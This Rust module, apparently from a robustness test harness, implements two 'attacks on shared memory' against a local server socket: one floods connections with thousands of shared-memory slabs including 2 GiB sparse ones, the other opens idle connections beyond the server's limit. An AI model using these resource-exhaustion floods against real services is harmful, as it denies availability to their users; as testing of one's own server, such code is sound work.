//! Attacks on shared memory.

use std::io;

use super::Stop;
use crate::{
    server::{CONNECTIONS, Target},
    wire::shm,
};

/// Passes slabs of one page, and sparse ones of 2 GiB, as many as a connection can pass.
pub fn slabs(target: &Target, stop: &Stop) -> io::Result<String> {
    let (small, sparse) = (shm::memory(4096)?, shm::memory(2 << 30)?);
    let (mut held, mut passed, mut refused) = (Vec::new(), 0, 0);
    for _ in 0..20 {
        let Ok(socket) = shm::connect(&target.socket()) else { continue };
        if shm::greet(&socket).is_err() {
            refused += 1;
            continue;
        }
        for number in 0..4000 {
            let (bytes, memory) = if number < 16 { (2 << 30, &sparse) } else { (4096, &small) };
            if stop.is_now() || shm::pass(&socket, number, bytes, memory).is_err() {
                break;
            }
            passed += 1;
        }
        held.push(socket);
    }
    stop.wait();
    Ok(format!("{} connections, {refused} refused, {passed} slabs", held.len()))
}

/// Opens connections that send only the hello packet.
pub fn idle(target: &Target, stop: &Stop) -> io::Result<String> {
    let (mut held, mut refused) = (Vec::new(), 0);
    for _ in 0..CONNECTIONS + 200 {
        if stop.is_now() {
            break;
        }
        match shm::connect(&target.socket()).and_then(|socket| shm::greet(&socket).map(|()| socket)) {
            Ok(socket) => held.push(socket),
            Err(_) => refused += 1,
        }
    }
    stop.wait();
    Ok(format!("{} connections, {refused} refused", held.len()))
}
